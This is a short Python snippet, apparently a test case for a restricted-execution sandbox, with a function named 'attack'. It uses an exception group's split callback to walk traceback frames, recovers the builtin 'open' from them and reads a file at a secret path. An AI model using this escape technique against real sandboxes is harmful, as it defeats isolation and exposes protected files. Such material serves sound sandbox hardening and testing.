# An exception group whose split asks a function, which takes the frame.
def attack(secret_path):
    found = []

    def look(error):
        if error.__traceback__:
            frame = error.__traceback__.tb_frame
            while frame:
                found.append(frame.f_builtins.get("open"))
                frame = frame.f_back
        return False

    try:
        raise ExceptionGroup("g", [ValueError(1)])
    except* ValueError as group:
        group.split(look)
    return [reach(secret_path).read() for reach in found if reach]
